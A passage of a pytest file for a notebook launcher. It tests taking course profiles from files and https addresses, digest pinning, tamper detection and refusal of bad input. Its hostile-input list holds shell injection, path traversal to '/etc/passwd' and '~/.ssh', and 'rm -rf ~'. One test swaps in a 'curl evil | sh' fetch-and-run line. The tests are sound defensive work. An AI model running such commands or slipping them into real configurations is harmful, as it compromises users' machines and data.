"""Courses: files and real https addresses, what is taken of them and what is refused, and notebooks that arrive."""

from __future__ import annotations

import contextlib
import datetime
import hashlib
import io
import ipaddress
import json
import os
import re
import ssl
import stat
import subprocess
import sys
import threading
import time
import types
from collections.abc import Callable, Iterator, Mapping
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, cast

import pexpect
import pytest
from rich.console import Console

from notebook_launcher.cli.views.text_view import TextView
from notebook_launcher.core.errors import (
    AnswerMissing,
    DigestDiffers,
    FetchFailed,
    LauncherError,
    ProfileError,
    ReservationRefused,
    UsageError,
)
from notebook_launcher.core.events import launch as events
from notebook_launcher.core.https_fetch import fetch
from notebook_launcher.hosts.local import LocalHost
from notebook_launcher.jobs.submit import profile_named
from notebook_launcher.notebook.deploy import beside, bring_notebooks, decide
from notebook_launcher.planning import courses
from notebook_launcher.planning.courses import forget_course, take_course, update_course
from notebook_launcher.planning.plan import Ask, Here, make_plan
from notebook_launcher.profiles.courses import CourseFiles, kept_course, kept_courses
from notebook_launcher.profiles.models import CourseProfile, Environment, Reservation
from notebook_launcher.session.context import Stage
from notebook_launcher.session.record import Site

pytestmark = pytest.mark.timeout(60)
DOCUMENTED = (Path(__file__).parent.parent / "docs" / "courses.md").read_text()
LAUNCHER = [sys.executable, "-m", "notebook_launcher"]

PROFILE = """\
host = "login.uni.example"
image_dir = "/sw/images"
environment = "site"

[defaults]
gres = "gpu:a100:1"
mem = "8G"

[environments.site]
container = "site.sif"
"""
COMMON = """\
cluster = "uni"
environment = "tf-gpu"
image = "course.sif"
account = "old"

[defaults]
gpus = 2

[environments.tf-gpu]
activate = "conda activate tf-gpu; export X='$HOME'"

[environments.tf-mkl]
conda = "tf-mkl"
"""
COURSE = """\
name = "gpu2026"
base = "common.toml"
description = "Computing with GPUs"
account = "edu26"
notebooks = ["one.ipynb", "week2/two.ipynb"]
first = 2026-11-01
last = 2026-12-31

[[reservations]]
name = "monday"
first = 2026-11-23
last = 2026-11-23

[[reservations]]
name = "week"
first = 2026-11-23
last = 2026-11-29
"""
FILES = {"course.toml": COURSE, "common.toml": COMMON, "one.ipynb": '{"one": 1}\n', "week2/two.ipynb": '{"two": 2}\n'}


class View:
    """Keeps what is shown."""

    def __init__(self) -> None:
        self.events: list[events.Event] = []

    def show(self, event: events.Event) -> None:
        self.events.append(event)

    def listen(self, inbox: object) -> None:
        pass

    @property
    def notes(self) -> str:
        return "\n".join(event.text for event in self.events if isinstance(event, events.Noted))


class Answers:
    """Somebody who answers, or nobody (``None``)."""

    def __init__(self, *answers: bool | None) -> None:
        self.answers, self.asked = list(answers), []

    def secret(self, text: str, *, echo: bool = False) -> str | None:
        return None

    def confirm(self, text: str) -> bool | None:
        self.asked.append(text)
        return self.answers.pop(0) if self.answers else None


@pytest.fixture(autouse=True)
def configuration(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A configuration folder with the profile of a cluster."""
    folder = tmp_path / "configuration"
    (folder / "clusters").mkdir(parents=True)
    (folder / "clusters" / "uni.toml").write_text(PROFILE)
    (folder / "config.toml").write_text('# mine\ncluster = "uni"\n')
    monkeypatch.setenv("NOTEBOOK_LAUNCHER_CONFIG", str(folder))
    return folder


def write(folder: Path, files: Mapping[str, str] = FILES) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder / "course.toml"


@pytest.fixture
def course(tmp_path: Path) -> Path:
    """A course's folder on this machine; the path of its file."""
    return write(tmp_path / "teacher")


def take(word: str | Path, *answers: bool | None) -> tuple[str, View, Answers]:
    view, prompts = View(), Answers(*answers)
    return take_course(str(word), view, prompts), view, prompts


def plan_on(day: str = "2026-11-24", **ask: Any) -> Any:
    return make_plan(Ask(**ask), Here("laptop", False, today=date.fromisoformat(day)))


# --- a file --------------------------------------------------------------------------------------------------


def test_a_course_is_taken_from_a_file_and_meant_from_then_on(course: Path, configuration: Path) -> None:
    name, view, prompts = take(course)
    assert (name, kept_courses(), prompts.asked) == ("gpu2026", ["gpu2026"], [])
    assert (configuration / "config.toml").read_text() == '# mine\ncluster = "uni"\ncourse = "gpu2026"\n'
    taken = view.events[-1]
    assert taken == events.CourseTaken("gpu2026", str(course), kept_course(name).digest, "Computing with GPUs", True)
    plan = plan_on()
    assert plan.place.course.name == "gpu2026"
    flags = dict(plan.request.flags)
    assert flags | {"account": "edu26", "gpus": "2", "mem": "8G", "reservation": "week"} == flags
    assert "gres" not in flags, "another word for GPUs replaces the profile's"
    assert (plan.environment_name, plan.container) == ("tf-gpu", "/sw/images/course.sif")
    assert plan.place.arguments() == ["--course", "gpu2026"]
    without = plan_on(cluster="uni")
    assert (without.place.course, without.request.flags["gres"]) == (None, "gpu:a100:1")
    assert plan_on(host="elsewhere").place.course is None


def test_everything_that_is_kept_is_for_this_user_alone(course: Path, configuration: Path) -> None:
    old = os.umask(0)
    try:
        take(course)
    finally:
        os.umask(old)
    for path in [configuration / "courses", *(configuration / "courses").rglob("*"), configuration / "config.toml"]:
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert sorted(path.name for path in (configuration / "courses").iterdir()) == ["gpu2026"]


@pytest.mark.parametrize(
    ("day", "begin", "reservation"),
    [
        ("2026-11-22", None, None),
        ("2026-11-23", None, "monday"),
        ("2026-11-29", None, "week"),
        ("2026-11-30", None, None),
        ("2026-11-20", "2026-11-24T09:00", "week"),
        ("2026-11-24", "2026-12-01", None),
        ("2026-11-24", "now+1hour", "week"),
    ],
)
def test_the_reservation_is_that_of_the_day(course: Path, day: str, begin: str | None, reservation: str | None) -> None:
    take(course)
    now = begin == "now+1hour" and time.localtime().tm_hour == 23
    plan = plan_on(day, flags={"begin": begin} if begin else {})
    if not now:
        assert plan.request.flags.get("reservation") == reservation
        assert any(f"reservation {reservation} is used" in note for note in plan.notes) == (reservation is not None)


def test_what_the_user_types_goes_first(course: Path) -> None:
    take(course)
    plan = plan_on(flags={"reservation": "mine", "account": "other", "gpus": "0"})
    assert (plan.request.flags["reservation"], plan.request.flags["account"]) == ("mine", "other")
    assert "gpus" not in plan.request.flags
    assert not [note for note in plan.notes if "reservation" in note]


@pytest.mark.parametrize(
    ("day", "says"), [("2026-10-31", "begins on 2026-11-01"), ("2027-01-01", "ended on 2026-12-31")]
)
def test_before_and_after_the_course_there_is_a_note_and_no_more(course: Path, day: str, says: str) -> None:
    take(course)
    assert [note for note in plan_on(day).notes if says in note and "course forget gpu2026" in note]


def test_a_course_without_environments_has_its_image(course: Path) -> None:
    course.write_text('name = "small"\ncluster = "uni"\nimage = "/proj/small.sif"\n')
    take(course)
    plan = plan_on()
    assert (plan.container, plan.environment_name) == ("/proj/small.sif", "course")


def test_a_file_that_has_changed_is_taken_again_with_a_note(course: Path) -> None:
    take(course)
    again = take(course)[1]
    assert again.events == []
    course.write_text(COURSE.replace("edu26", "edu27"))
    (course.parent / "one.ipynb").write_text('{"one": 2}\n')
    _, view, prompts = take(course)
    assert prompts.asked == []
    assert "- account: edu26" in view.notes and "+ account: edu27" in view.notes
    assert "one.ipynb is another version" in view.notes
    assert plan_on().request.flags["account"] == "edu27"


WHOLE = {
    "name": "whole", "description": "D-1", "base": "base-1.toml", "cluster": "uni", "contact": "C-1",
    "first": "2026-01-02", "last": "2026-12-30", "account": "acc1", "environment": "e1", "image": "i1.sif",
    "reservations": [{"name": "res1", "first": "2026-02-02", "last": "2026-02-03"}], "image_dir": "/dir-1",
    "idle_stop": "21m", "gpu_idle": "end", "notice": "N-1", "notebooks": ["n1.ipynb"], "folder": "~/f1",
    "defaults": {"mem": "3G", "exclusive": False},
    "environments": {"e1": {
        "description": "D-2", "container": "c1.sif", "container_command": "shifter", "source": "s-1",
        "definition": "d-1.def", "digest": f"sha256:{'a' * 64}", "bind": ["/b1"], "modules": ["m1"],
        "module_use": ["/mu1"], "conda": "co1", "venv": "/v1", "uv": "/u1", "activate": ["a-1", "a-2"],
        "env": {"E1": "ev1"}, "gpu": "auto", "start_timeout": 600,
    }},
}  # fmt: skip


def words_in(value: Any) -> Iterator[str]:
    """Yield every single word of a value, down to the last."""
    for one in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from words_in(one)
    if not isinstance(value, dict | list | bool):
        yield str(value)


def test_whatever_a_course_sets_is_in_what_the_user_agrees_to() -> None:
    assert set(WHOLE) == set(CourseProfile.model_fields), "a new field of a course"
    assert set(WHOLE["environments"]["e1"]) == set(Environment.model_fields), "a new field of an environment"

    def told(data: dict[str, Any]) -> list[str]:
        files = CourseFiles(CourseProfile.model_validate(data), (), ("",), (b"",), {})
        return courses.summary(files)

    everything = told(WHOLE)
    for key, value in WHOLE.items():
        for word in words_in(value) if key != "name" else ():
            assert any(word in line for line in everything), (key, word)
        if key not in ("name", "environment"):
            assert told({k: v for k, v in WHOLE.items() if k != key}) != everything, key
    environment = WHOLE["environments"]["e1"]
    for key in environment:
        less = {k: v for k, v in environment.items() if k != key}
        assert told({**WHOLE, "environments": {"e1": less}}) != everything, key


def test_a_digest_that_is_taken_away_is_shown(course: Path) -> None:
    pin = f'digest = "sha256:{"a" * 64}"\n'
    with course.open("a") as file:
        file.write(f"[environments.tf-gpu]\n{pin}")
    take(course)
    course.write_text(course.read_text().replace(pin, ""))
    notes = take(course)[1].notes
    assert f"- environment tf-gpu: image has sha256:{'a' * 64}" in notes
    assert "wording" not in notes


def test_code_in_another_order_is_a_change(course: Path) -> None:
    code = 'name = "gpu2026"\n[environments.x]\nactivate = {}\n'
    course.write_text(code.format('["a", "b"]'))
    take(course)
    course.write_text(code.format('["b", "a"]'))
    assert "! the other lines stand in another order" in take(course)[1].notes


def test_many_changes_are_found_soon_and_not_all_listed(course: Path) -> None:
    for step in ("one", "two"):
        lines = [f"export A{number}='{step} {number * 7919}'" for number in range(3000)]
        course.write_text(f'name = "gpu2026"\n[environments.x]\nactivate = {json.dumps(lines)}\n')
        began = time.process_time()
        notes = take(course)[1].notes
        assert time.process_time() - began < 5
    assert "… and 5900 more lines" in notes
    assert len(notes.splitlines()) < 110


def test_a_course_may_stand_on_a_file_called_course(course: Path) -> None:
    write(course.parent, {"course.toml": COMMON, "lab.toml": 'name = "lab"\nbase = "course.toml"\n'})
    assert take(course.parent / "lab.toml")[0] == "lab"
    assert plan_on().request.flags["account"] == "old"
    assert take(course.parent / "lab.toml")[1].events == []
    course.write_text('name = "lab"\nbase = "course.toml"\n')
    with pytest.raises(ProfileError, match="circle"):
        take(course)


@pytest.mark.parametrize(
    ("name", "change"),
    [("files/one.ipynb", None), ("files/one.ipynb", "other"), ("course.toml", 'name = "gpu2026"\naccount = "evil"\n')],
)
def test_what_was_changed_or_lost_where_it_is_kept_is_put_right(
    web: Server, course: Path, configuration: Path, name: str, change: str | None
) -> None:
    url = web.put(FILES)
    for word in (f"{url}#sha256={digest_of(course)}", url, str(course)):
        with contextlib.suppress(ProfileError):
            forget_course("gpu2026", View())
        take(word, True)
        path = configuration / "courses" / "gpu2026" / name
        path.unlink() if change is None else path.write_text(change)
        _, view, prompts = take(word)
        assert prompts.asked == [], "what was agreed to is not asked about again"
        assert kept_course("gpu2026").files().digest == digest_of(course)
        assert "is kept anew" in view.notes


def test_another_course_of_the_same_name_is_not_taken_unasked(course: Path, tmp_path: Path) -> None:
    take(course)
    other = write(tmp_path / "other", {**FILES, "common.toml": COMMON.replace("course.sif", "other.sif")})
    for answer in (None, False):
        with pytest.raises(AnswerMissing, match="already, from") as caught:
            take(other, answer)
        assert "course forget gpu2026" in caught.value.mend
    assert kept_course("gpu2026").source == str(course)
    take(other, True)
    assert (kept_course("gpu2026").source, plan_on().container) == (str(other), "/sw/images/other.sif")


def test_the_same_course_may_lie_elsewhere_now(course: Path, tmp_path: Path) -> None:
    take(course)
    moved = write(tmp_path / "downloads")
    assert take(moved)[1].events == []
    assert kept_course("gpu2026").source == str(moved)


def test_a_name_means_a_course_that_was_taken(course: Path) -> None:
    with pytest.raises(ProfileError, match="no course “gpu2026”"):
        take("gpu2026")
    take(course)
    assert take("gpu2026")[0] == "gpu2026"


def test_a_course_that_is_damaged_can_be_taken_again(course: Path, configuration: Path) -> None:
    take(course)
    (configuration / "courses" / "gpu2026" / "course.toml").write_text("nonsense")
    with pytest.raises(ProfileError, match=r"course\.toml"):
        plan_on()
    take(course)
    assert plan_on().request.flags["account"] == "edu26"


@pytest.mark.parametrize("stop", [KeyboardInterrupt, OSError])
def test_a_newer_one_that_does_not_arrive_leaves_the_older(
    course: Path, configuration: Path, monkeypatch: pytest.MonkeyPatch, stop: type[BaseException]
) -> None:
    take(course)
    course.write_text(COURSE.replace("edu26", "edu27"))
    rename = Path.replace

    def stopped(path: Path, target: Path) -> Path:
        if path.name == "new":
            raise stop
        return rename(path, target)

    with monkeypatch.context() as patched:
        patched.setattr(Path, "replace", stopped)
        with pytest.raises(ProfileError if stop is OSError else stop):
            take(course)
    assert [path.name for path in (configuration / "courses").iterdir()] == ["gpu2026"]
    assert plan_on().request.flags["account"] == "edu26"


@pytest.mark.parametrize("look", [lambda: kept_course("gpu2026").course.account, lambda: (kept_courses(), "edu26")[1]])
def test_a_launcher_that_was_killed_while_it_kept_a_course(
    course: Path, configuration: Path, look: Callable[[], str]
) -> None:
    take(course)
    kept = configuration / "courses" / "gpu2026"
    kept.rename(kept.with_name(".old-gpu2026"))  # as far as it came
    assert look() == "edu26"
    assert [path.name for path in kept.parent.iterdir()] == ["gpu2026"]
    kept.with_name(".old-gpu2026").mkdir()  # or a little further
    course.write_text(COURSE.replace("edu26", "edu27"))
    take(course)
    assert plan_on().request.flags["account"] == "edu27"
    assert [path.name for path in kept.parent.iterdir()] == ["gpu2026"]


def test_a_configuration_that_was_saved_with_a_mark_is_read_and_changed(course: Path, configuration: Path) -> None:
    (configuration / "config.toml").write_bytes('\ufeff# mine\ncluster = "uni"\n'.encode())  # Windows' editor
    take(course)
    assert plan_on().place.course.name == "gpu2026"
    forget_course("gpu2026", View())
    assert (configuration / "config.toml").read_text() == '# mine\ncluster = "uni"\n'
    assert len(list(configuration.iterdir())) == 3


def test_a_course_on_this_machine_is_told_for_what_it_is(course: Path) -> None:
    for name in (course, "gpu2026"):
        with pytest.raises(UsageError, match="needs a cluster") as caught:
            make_plan(Ask(course=take_course(str(name), View(), Answers(), "here"), cluster="here"), Here("x", False))
        assert "--cluster uni" in caught.value.mend
        take(course)


def test_a_base_that_has_gone_is_told_by_the_line(course: Path, configuration: Path) -> None:
    take(course)
    (configuration / "courses" / "gpu2026" / "files" / "common.toml").unlink()
    with pytest.raises(ProfileError) as caught:
        plan_on()
    assert re.search(r"course\.toml:2: .*common\.toml cannot be read", caught.value.what)


def test_a_course_is_named_once_by_a_command() -> None:
    shown = io.StringIO()
    with TextView(Console(file=shown, width=80)) as view:
        for first in (True, False):
            view.show(events.CourseTaken("gpu2026", "/c.toml", "12", "A lab", first))
    assert shown.getvalue().count("gpu2026") == 1
    with TextView(Console(file=shown, width=80)) as view:
        view.show(events.CourseTaken("gpu2026", "/c.toml", "12", "A lab", first=False))
    assert "Course gpu2026: A lab" in shown.getvalue()


def test_a_course_is_forgotten(course: Path, configuration: Path) -> None:
    take(course)
    view = View()
    forget_course("gpu2026", view)
    assert (kept_courses(), plan_on().place.course) == ([], None)
    assert (configuration / "config.toml").read_text() == '# mine\ncluster = "uni"\n'
    with pytest.raises(ProfileError, match="no course"):
        forget_course("gpu2026", view)
    with pytest.raises(ProfileError, match="no course"):
        forget_course("../clusters", view)
    assert (configuration / "clusters").is_dir()


def test_what_is_refused_is_told_as_the_courses_wish(course: Path) -> None:
    take(course)
    with pytest.raises(ReservationRefused) as caught, profile_named(plan_on()):
        raise ReservationRefused("Slurm refused the job.", mend="leave it out")
    assert "The course “gpu2026” asks for it: --reservation=week." in caught.value.why
    assert "replaces the course's" in caught.value.mend


def test_tab_offers_the_environments_of_the_course(course: Path) -> None:
    take(course)
    typed = {"COMP_WORDS": "launch-notebook -- tf", "COMP_CWORD": "2", "_LAUNCH_NOTEBOOK_COMPLETE": "bash_complete"}
    program = (
        "from notebook_launcher.cli.app import cli; cli(prog_name='launch-notebook', obj={'flags': {}, 'words': ()})"
    )
    done = subprocess.run([sys.executable, "-c", program], env={**os.environ, **typed}, capture_output=True, text=True)
    assert done.stdout.split() == ["plain,tf-gpu", "plain,tf-mkl"], done.stderr


# --- what is wrong with a file -------------------------------------------------------------------------------

HOSTILE = [
    pytest.param("nmae = 1", 2, "did you mean name", id="a typo"),
    pytest.param('account = "a\\nb"', 2, "account", id="two lines"),
    pytest.param('account = "$(touch /tmp/x)"', 2, "account", id="a shell's words"),
    pytest.param('cluster = "../../x"', 2, "no cluster profile", id="a cluster that leads out"),
    pytest.param('cluster = "nowhere"', 2, "nowhere", id="no such cluster"),
    pytest.param('base = "../common.toml"', 2, "beside this one", id="a base that leads out"),
    pytest.param('base = "/etc/passwd"', 2, "beside this one", id="a base from the root"),
    pytest.param("base = 7", 2, "beside this one", id="a number as base"),
    pytest.param('base = "none.toml"', 2, "no such file", id="no such base"),
    pytest.param('notebooks = ["../a.ipynb"]', 2, "beside the course file", id="a notebook that leads out"),
    pytest.param('notebooks = ["/etc/passwd"]', 2, "beside the course file", id="a notebook from the root"),
    pytest.param('notebooks = [".bashrc"]', 2, "hidden", id="a hidden notebook"),
    pytest.param('notebooks = ["a/.ssh/x"]', 2, "hidden", id="a notebook in a hidden folder"),
    pytest.param('notebooks = ["none.ipynb"]', 2, "no such file", id="a notebook that is not there"),
    pytest.param('notebooks = ["link.ipynb"]', 2, "leads out", id="a notebook that is a link"),
    pytest.param('notebooks = ["folder"]', 2, "is a folder", id="a folder as notebook"),
    pytest.param('notebooks = ["b.toml"]\nbase = "b.toml"', 2, "cannot both lie", id="a base as notebook"),
    pytest.param('notebooks = ["folder/x", "folder"]', 2, "cannot both lie", id="a notebook and its folder"),
    pytest.param('notebooks = ["a.ipynb", "A.ipynb"]', 2, "cannot both lie", id="capitals alone"),
    pytest.param(f"notebooks = {[f'{n}.ipynb' for n in range(201)]}", 2, "at most 200", id="many notebooks"),
    pytest.param(
        '[environments.x]\nenv = {PATH = "\\u001b]:/evil:\\u0007/bin"}', 3, "cannot be seen", id="hidden in env"
    ),
    pytest.param('folder = "~/.ssh"', 2, "hidden", id="a hidden folder"),
    pytest.param('folder = "~/../bob"', 2, "leads out", id="a folder that leads out"),
    pytest.param("idle_stop = 30", 2, "idle_stop", id="a number for a time"),
    pytest.param('environment = "nope"', 2, "not among", id="no such environment"),
    pytest.param("first = 2026-02-01\nlast = 2026-01-01", 3, "before it begins", id="ends first"),
    pytest.param('[[reservations]]\nname = "x"\nfirst = 2026-02-01\nlast = 2026-01-01', 2, "before", id="ends before"),
    pytest.param('[defaults]\npartitoin = "core"', 3, "did you mean partition", id="no flag"),
    pytest.param('[defaults]\nwrap = "rm -rf ~"', 3, "cannot be used", id="a flag that cannot be"),
    pytest.param('[environments.x]\nactivate = """a\nb"""', 3, "activate", id="code of several lines"),
    pytest.param("[environments.x", 2, "TOML", id="no TOML"),
]


@pytest.mark.parametrize(("text", "line", "says"), HOSTILE)
def test_a_mistake_is_told_with_its_line_and_nothing_is_kept(
    tmp_path: Path, configuration: Path, text: str, line: int | None, says: str
) -> None:
    path = write(tmp_path / "t", {"course.toml": f'name = "bad"\n{text}\n', "folder/x": "", "b.toml": ""})
    (path.parent / "link.ipynb").symlink_to("/etc/hostname")
    with pytest.raises(ProfileError) as caught:
        take(path)
    said = f"{caught.value.what} {caught.value.why} {caught.value.mend}"
    assert says in said
    assert f"{path}:{line}:" in said.replace(" is not TOML", ":") if line else str(path.parent) in said
    assert kept_courses() == []
    assert "course" not in (configuration / "config.toml").read_text()


def test_a_notebook_that_is_not_there_is_mended_in_the_courses_file(tmp_path: Path) -> None:
    files = {"course.toml": 'name = "x"\nnotebooks = ["lab33.ipynb"]\n', "lab3.ipynb": "{}"}
    with pytest.raises(ProfileError) as caught:
        digest_of(write(tmp_path / "t", files))
    assert caught.value.mend == "did you mean lab3.ipynb?"
    with pytest.raises(ProfileError) as caught:
        digest_of(write(tmp_path / "t", {"course.toml": 'name = "x"\nnotebooks = ["other.ipynb"]\n'}))
    assert "beside the course's file" in caught.value.mend
    with pytest.raises(ProfileError) as caught:
        digest_of(tmp_path / "none.toml")
    assert "--course ./course.toml" in caught.value.mend


@pytest.mark.parametrize("name", ["../x", ".hidden", "a b", "x.toml", "", "a/b", "-x"])
def test_a_course_cannot_be_called_anything(tmp_path: Path, name: str) -> None:
    with pytest.raises(ProfileError, match=r"course\.toml:1: name"):
        take(write(tmp_path / "t", {"course.toml": f'name = "{name}"\n'}))


def test_courses_that_stand_on_each_other_in_a_circle(tmp_path: Path) -> None:
    path = write(tmp_path / "t", {name: f'name = "x"\nbase = "{base}"\n' for name, base in
                                  (("course.toml", "b.toml"), ("b.toml", "c.toml"), ("c.toml", "b.toml"))})  # fmt: skip
    with pytest.raises(ProfileError, match=rf"{path.parent}/c\.toml:2: .* circle") as caught:
        take(path)
    assert caught.value.why == "course.toml → b.toml → c.toml → b.toml"


# --- an address ----------------------------------------------------------------------------------------------


class Server:
    """A web server on this machine. ``files``: what it has; ``odd``: paths that it answers in another way."""

    def __init__(self, context: ssl.SSLContext | None) -> None:
        self.files: dict[str, bytes] = {}
        self.odd: dict[str, Callable[[BaseHTTPRequestHandler], None]] = {}
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.lstrip("/")
                outer.asked.append(path)
                if path in outer.odd:
                    with contextlib.suppress(OSError):
                        outer.odd[path](self)
                elif path not in outer.files:
                    self.send_error(404)
                else:
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(outer.files[path])))
                    self.end_headers()
                    self.wfile.write(outer.files[path])

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        if context:
            self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.url = f"http{'s' if context else ''}://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()

    def put(self, files: Mapping[str, str], under: str = "") -> str:
        self.files |= {f"{under}{name}": text.encode() for name, text in files.items()}
        return f"{self.url}{under}course.toml"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="session")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A certificate for this machine and its key: an institution's own."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "a university")])
    now = datetime.datetime.now(datetime.timezone.utc)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), True)
        .sign(key, hashes.SHA256())
    )
    folder = tmp_path_factory.mktemp("certificate")
    (folder / "cert.pem").write_bytes(made.public_bytes(serialization.Encoding.PEM))
    (folder / "key.pem").write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return folder / "cert.pem", folder / "key.pem"


@pytest.fixture
def web(certificate: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    """A web server with https, which this machine trusts."""
    monkeypatch.setenv("SSL_CERT_FILE", str(certificate[0]))
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    server = Server(context)
    yield server
    server.close()


@pytest.fixture
def plain_web(monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    """A web server without https."""
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    server = Server(None)
    yield server
    server.close()


def digest_of(path: Path) -> str:
    return courses.digest_of(str(path), View())


def test_the_digest_is_what_sha256sum_says(course: Path) -> None:
    names = ["course.toml", "common.toml", "one.ipynb", "week2/two.ipynb"]
    listed = subprocess.run(["sha256sum", *names], cwd=course.parent, capture_output=True, check=True).stdout
    told = subprocess.run([*LAUNCHER, "course", "digest", str(course)], capture_output=True, text=True, check=True)
    assert told.stdout == hashlib.sha256(listed).hexdigest() + "\n"
    course.write_text('name = "alone"\n')
    assert digest_of(course) == hashlib.sha256(course.read_bytes()).hexdigest()


def test_an_address_with_its_digest_is_taken_unasked(web: Server, course: Path) -> None:
    url = web.put(FILES, "2026/")
    name, _, prompts = take(f"{url}#sha256={digest_of(course)}")
    assert prompts.asked == []
    kept = kept_course(name)
    assert (kept.source, kept.digest) == (url, digest_of(course))
    assert kept.files().notebooks["week2/two.ipynb"] == b'{"two": 2}\n'
    assert plan_on().request.flags["reservation"] == "week"
    web.asked.clear()
    take(f"{url}#sha256={digest_of(course)}")
    assert web.asked == [], "what is kept already is not fetched again"


@pytest.mark.parametrize("tampered", list(FILES))
def test_a_file_that_was_tampered_with_is_not_taken(web: Server, course: Path, tampered: str) -> None:
    pin = digest_of(course)
    url = web.put({**FILES, tampered: FILES[tampered] + "\n"})
    with pytest.raises(DigestDiffers, match="not the one whose digest was given"):
        take(f"{url}#sha256={pin}")
    assert kept_courses() == []


def test_the_digest_of_the_file_alone_is_told_apart(web: Server) -> None:
    url = web.put(FILES)
    with pytest.raises(DigestDiffers) as caught:
        take(f"{url}#sha256={hashlib.sha256(COURSE.encode()).hexdigest()}")
    assert "alone" in caught.value.why and "course digest" in caught.value.mend


def test_plain_http_wants_a_digest(plain_web: Server, course: Path) -> None:
    url = plain_web.put(FILES)
    with pytest.raises(UsageError, match="Nothing is fetched") as caught:
        take(url, True)
    assert "#sha256=" in caught.value.mend
    assert plain_web.asked == []
    assert take(f"{url}#sha256={digest_of(course)}")[0] == "gpu2026"


def test_a_course_over_plain_http_is_updated_by_its_teachers_new_line(plain_web: Server, course: Path) -> None:
    url = plain_web.put(FILES)
    take(f"{url}#sha256={digest_of(course)}")
    with pytest.raises(UsageError, match="Nothing is fetched") as caught:
        courses.update_course("gpu2026", View(), Answers())
    assert "launch-notebook --course" in caught.value.mend and "from your teacher" in caught.value.mend


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("description = 1", "your teacher"),
        ("contact = 'Ada <ada@uni.example>'\nname = 1", "tell Ada <ada@uni.example>: name"),
        ("name = oops", "your teacher"),
        ("name = 'x'\nbase = '../y'", "your teacher"),
    ],
)
def test_a_mistake_in_a_course_from_an_address_is_its_teachers_to_mend(web: Server, text: str, told: str) -> None:
    url = web.put({"course.toml": text})
    with pytest.raises(ProfileError) as caught:
        take(url, True)
    assert caught.value.mend.startswith("tell ") and told in caught.value.mend


def test_without_a_digest_the_user_sees_what_runs_and_is_asked(web: Server, course: Path) -> None:
    url = web.put(FILES)
    for answer in (None, False):
        with pytest.raises(AnswerMissing) as caught:
            take(url, answer)
        assert f"{url}#sha256={digest_of(course)}" in caught.value.mend
        assert kept_courses() == []
    name, view, prompts = take(url, True)
    assert len(prompts.asked) == 1
    for part in ("uni", "edu26", "course.sif", "runs  conda activate tf-gpu; export X='$HOME'", "week2/two.ipynb",
                 "--gpus=2", "monday", digest_of(course)):  # fmt: skip
        assert part in view.notes, part
    assert {type(event) for event in take(url)[1].events} == {events.Asking}, "the same again is taken silently"
    # the address that was offered works
    forget_course(name, view)
    offered = re.search(r"--course '?(\S+?)'?$", caught.value.mend)
    assert offered and take(offered[1])[0] == name


def test_a_change_is_shown_and_asked_about(web: Server, course: Path) -> None:
    url = web.put(FILES)
    take(url, True)
    before = kept_course("gpu2026")
    web.put({"common.toml": COMMON.replace("conda activate tf-gpu", "curl evil | sh")})
    for answer in (None, False):
        with pytest.raises(DigestDiffers, match="not what it was when you took it") as caught:
            take(url, answer)
        assert "--course gpu2026" in caught.value.mend
        assert kept_course("gpu2026") == before
    assert take("gpu2026")[0] == "gpu2026", "what is kept goes on working"
    _, view, _ = take(url, True)
    assert "- environment tf-gpu: runs  conda activate tf-gpu" in view.notes
    assert "+ environment tf-gpu: runs  curl evil | sh" in view.notes
    assert kept_course("gpu2026").digest != before.digest


def test_a_course_is_updated_from_where_it_came(web: Server) -> None:
    url = web.put(FILES)
    take(url, True)
    view = View()
    update_course("gpu2026", view, Answers())
    assert "is what it was on" in view.notes
    web.put({"one.ipynb": "{}"})
    update_course("gpu2026", view, Answers(True))
    assert "one.ipynb is another version" in view.notes
    assert kept_course("gpu2026").files().notebooks["one.ipynb"] == b"{}"


def test_without_the_network_the_kept_course_is_used(web: Server) -> None:
    url = web.put(FILES)
    take(url, True)
    web.close()
    name, view, _ = take(url)
    assert name == "gpu2026"
    assert "is used as it was taken on" in view.notes
    forget_course(name, view)
    with pytest.raises(FetchFailed):
        take(url)


def test_a_server_that_is_not_trusted_gives_nothing(web: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    url = web.put(FILES)
    monkeypatch.delenv("SSL_CERT_FILE")
    with pytest.raises(FetchFailed, match="could not be fetched") as caught:
        take(url, True)
    assert "SSL_CERT_FILE" in caught.value.mend
    assert web.asked == []


def redirect(to: str, code: int = 302) -> Callable[[BaseHTTPRequestHandler], None]:
    def answer(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(code)
        handler.send_header("Location", to)
